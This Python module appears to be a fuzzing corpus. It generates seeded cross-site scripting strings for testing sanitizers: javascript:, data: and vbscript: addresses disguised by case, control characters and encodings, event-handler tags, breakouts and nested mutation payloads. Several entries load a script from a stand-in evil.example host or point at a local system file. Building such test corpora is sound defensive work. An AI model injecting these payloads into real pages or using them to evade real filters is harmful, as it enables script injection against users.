"""Hostile strings by rule: scheme × case × control character × encoding × where an address stands, events, breakouts.

Seeded and without end in kind, not in number: ``hostile_strings(count, seed)`` gives the same list for the same values.
Whatever runs says ``alert(1)``, so that a browser shows a dialog. Nothing here was copied from a list of attacks.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from itertools import product

RUNNING = (
    "javascript:alert(1)",
    "javascript:alert(1)//https://a.example/",
    "javascript://a.example/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "vbscript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:javascript:alert(1)",
    "file:///etc/hostname",
)
MALFORMED = (
    "http://[::1", "https://a.example:99999/", "https://%zz/", "http://a b.example/", "https://", "//", "https://@/",
    "https://www.jst.go.jp@evil.example/", "https://a.example:80:80/", "http://\u2100.example/", "http:\\\\[x", "::",
    "https://a.example/\ud800", "https://xn--a/", "http://0x100000000/",
)  # fmt: skip
_CASES: tuple[Callable[[str], str], ...] = (str, str.upper, str.title, str.swapcase, lambda text: _every_second(text))
_BEFORE = ("", " ", "\t", "\n", "\x00", "\x01", "\x1d", "\x0b", "\xa0", "\u2028", "\ufeff", "\u200b", "\x7f", "\ufffe")
_INSIDE = ("", "\t", "\n", "\r", "\x00", "\x0c", "\xad", "\u200d", "\ud800")
_ENCODINGS: tuple[Callable[[str], str], ...] = (
    str,
    lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    lambda text: "".join(f"&#x{ord(letter):x}" for letter in text),
    lambda text: "".join(f"&#{ord(letter):07d}" for letter in text),
    lambda text: text.replace(":", "&colon;").replace("a", "&#97;", 1),
    lambda text: text.replace("script", "scr&Tab;ipt", 1).replace(":", "&NewLine;:", 1),
    lambda text: "".join(f"%{ord(letter):02X}" for letter in text[:4]) + text[4:],
    lambda text: text.replace(":", "%3A", 1),
    lambda text: "".join(f"&amp;#{ord(letter)};" for letter in text),
    lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
)
_PLACES = (
    "{}", '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<a title="{}" href="{}">x</a>',
    '<A HREF="{}" target=_top>x</A>', '<img src="{}">', '<img src=x longdesc="{}" srcset="{} 1x">',
    '<iframe src="{}"></iframe>', '<iframe srcdoc="{}"></iframe>', '<form action="{}"><input type=submit></form>',
    '<button formaction="{}">x</button>', '<input type=image src=x formaction="{}">', '<object data="{}"></object>',
    '<embed src="{}">', '<link rel=stylesheet href="{}">', '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}"><a href="/x">x</a>', '<map><area href="{}" shape=default></map>', '<video poster="{}"></video>',
    '<audio src="{}"></audio>', '<body background="{}">', '<table background="{}"><tr><td>x</table>',
    '<div style="background:url({})">x</div>', '<style>@import "{}";</style>', '<blockquote cite="{}">x</blockquote>',
    '<a ping="{}" href="https://a.example/">x</a>', '<svg><a href="{}"><text y=9>x</text></a></svg>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<svg><use href="{}"/></svg>',
    '<svg><a><animate attributeName=href values="{}"/><text y=9>x</text></a></svg>',
    '<svg><set attributeName=onclick to="{}"/></svg>', '<svg><image href="{}"/></svg>',
    '<svg><foreignObject><a href="{}">x</a></foreignObject></svg>', '<math><mi href="{}">x</mi></math>',
    '<math><mi xlink:href="{}">x</mi></math>', '<math><maction actiontype="statusline#{}">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><a href="{}">x</a></annotation-xml></math>',
    '<isindex action="{}">', '<frameset><frame src="{}"></frameset>', '<applet codebase="{}"></applet>',
    '<html manifest="{}">', '<head profile="{}">', '<command icon="{}">', '<portal src="{}"></portal>',
    "[x]({})", "[x](<{}>)", "<{}>", "[x][1]\n\n[1]: {}", "![x]({})", '[x](https://a.example/){{ href="{}" }}',
    r"\(\href{{{}}}{{x}}\)", r"$\href{{{}}}{{x}}$", r"\[\style{{background:url({})}}{{x}}\]",
    r'\(\text{{<a href="{}">x</a>}}\)', r"$\class{{{}}}{{x}}$", r"$\color{{{}}}{{x}}$", "https://a.example/?u={}",
    "https://a.example/#{}", "https://{}/", "*[x]: {}", "[^1]\n\n[^1]: [x]({})",
)  # fmt: skip
_ELEMENTS = (
    "img src=x", "svg", "body", "details open", "marquee", "video src=x", "audio src=x", "input autofocus", "a href=x",
    "select autofocus", "textarea autofocus", "math", "x-y", "p", "table", "svg><animate", "svg><set", "math><mtext",
    "iframe", "object", "style", "link rel=stylesheet", "button", "span tabindex=1", "dialog open", "p contenteditable",
)  # fmt: skip
_EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onpointerover", "onstart",
    "onanimationend", "onpageshow", "ONERROR", "oNlOaD", "onauxclick", "oncontentvisibilityautostatechange",
)  # fmt: skip
_BETWEEN = (" ", "/", "\t", "\n", "\x0c", " x='>' ", "\x00 ", " /=")
_VALUES = ("alert(1)", '"alert(1)"', "'alert(1)'", "&#97;lert(1)", '"&#x61;lert&lpar;1)"', "alert`1`")
_ENDS = (
    "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "]]>", "-->", "--!>", '">', "'>", '" ', "' ",
    "`>", "</p>", "</svg>", "</math>", "?>", "%>", "}}", "\\", "\u2028", "&quot;>", "</template>", "\n\n", "$$", "|",
)  # fmt: skip
_BEGINS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "onmouseover=alert(1) x=",
    "<script src=https://evil.example/x.js></script>", "<iframe src=javascript:alert(1)>", "{{ 7*7 }}", "{% raw %}",
    "{ onclick=alert(1) }", "{: onclick=alert(1) }", "<!--", "<![CDATA[", "<?php", "<plaintext>", "<xmp>",
)  # fmt: skip
_NESTED = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<svg><desc><table><tr><td><svg><style><a title='</style><img src onerror=alert(1)>'>",
    "<template><p></template><script>alert(1)</script>",
    "<a href='x' href='javascript:alert(1)'>x</a>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<img src='x\" onerror=alert(1) y=\"'>",
    "<svg><title><![CDATA[</title><script>alert(1)</script>]]></title></svg>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b$B<script>alert(1)</script>\x1b(B",
)  # fmt: skip
_FORBIDDEN = (*map(chr, range(0x20)), "\x7f", "\x85", chr(0xD800), chr(0xDFFF), "\ufffe", "\uffff", "\U0001fffe")


def hostile_strings(count: int = 2000, seed: int = 1) -> list[str]:
    """``count`` different strings, a share of each rule; the smaller rules are there whole where there is room."""
    chosen = random.Random(seed)
    small = [*RUNNING, *MALFORMED, *_NESTED, *(f"水{mark}素 water" for mark in _FORBIDDEN)]
    rules: list[Callable[[random.Random], str]] = [_an_address, _in_a_place, _in_a_place, _an_event, _a_breakout]
    found = dict.fromkeys(chosen.sample(small, min(len(small), max(1, count // 4))))
    while len(found) < count:
        found[chosen.choice(rules)(chosen)] = None
    return list(found)[:count]


def addresses(count: int, seed: int = 1) -> list[str]:
    """Only addresses: running ones in their disguises, and malformed ones."""
    chosen = random.Random(seed)
    found = dict.fromkeys([*RUNNING, *MALFORMED])
    while len(found) < count:
        found[_an_address(chosen)] = None
    return list(found)[:count]


def how_many() -> int:
    """How many different strings the rules can make at least (places and events alone)."""
    return sum(1 for _ in product(_PLACES, RUNNING, _CASES, _BEFORE)) + sum(1 for _ in product(_ELEMENTS, _EVENTS))


def pieces() -> Iterator[str]:
    """The places in which an address stands, each once."""
    yield from _PLACES


def _an_address(chosen: random.Random) -> str:
    """A running address in a disguise."""
    scheme, _, rest = chosen.choice(RUNNING).partition(":")
    scheme = chosen.choice(_CASES)(scheme)
    at = chosen.randrange(len(scheme) + 1)
    scheme = scheme[:at] + chosen.choice(_INSIDE) + scheme[at:]
    return chosen.choice(_BEFORE) + chosen.choice(_ENCODINGS)(f"{scheme}:") + rest


def _in_a_place(chosen: random.Random) -> str:
    """An address where markup, Markdown or TeX has one."""
    place = chosen.choice(_PLACES)
    address = _an_address(chosen) if chosen.random() < 0.9 else chosen.choice(MALFORMED)
    return place.format(*[address] * place.replace("{{", "").count("{}"))


def _an_event(chosen: random.Random) -> str:
    """An element that runs something by an event."""
    between, closing = chosen.choice(_BETWEEN), chosen.choice((">x", "/>", "", ">x</p>"))
    return f"<{chosen.choice(_ELEMENTS)}{between}{chosen.choice(_EVENTS)}={chosen.choice(_VALUES)}{closing}"


def _a_breakout(chosen: random.Random) -> str:
    """The end of what may stand around a text, then markup."""
    return chosen.choice(_ENDS) + chosen.choice(_ENDS[:12] + ("",) * 12) + chosen.choice((*_BEGINS, *_NESTED))


def _every_second(text: str) -> str:
    """A text with every second letter in upper case."""
    return "".join(letter.upper() if number % 2 else letter.lower() for number, letter in enumerate(text))
